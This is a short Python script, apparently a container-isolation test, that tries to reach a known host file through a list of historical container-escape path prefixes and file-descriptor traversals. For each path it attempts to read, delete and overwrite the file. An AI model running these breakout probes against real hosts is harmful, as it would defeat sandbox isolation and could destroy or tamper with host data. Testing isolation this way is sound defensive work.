"""A file of the host whose path is known, by every prefix that once led out of a container."""

import os

from attempt import HOST, attempt

PREFIXES = ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../../..", "/proc/self/cwd/../../../../..", f"/proc/{HOST['pid']}/root", "/outputs/../../../../../../../..", "/repo/../../../../../../..", "/dev/fd/0/../../../../../..", "/rootfs", "/host", "/mnt")
os.chdir("/outputs")
for prefix in PREFIXES:
    path = prefix + HOST["file"]
    attempt(path, lambda: open(path).read())
    attempt(f"remove {path}", lambda: os.remove(path))
    attempt(f"write {path}", lambda: open(path, "r+").write("planted"))
    os.symlink(path, "link")
    attempt(f"link to {path}", lambda: open("link").read())
    os.remove("link")
for fd in range(64):
    attempt(f"from descriptor {fd}", lambda: os.open(HOST["file"].lstrip("/"), os.O_RDONLY, dir_fd=fd))
    attempt(f"up from descriptor {fd}", lambda: os.open("../" * 12 + HOST["file"].lstrip("/"), os.O_RDONLY, dir_fd=fd))
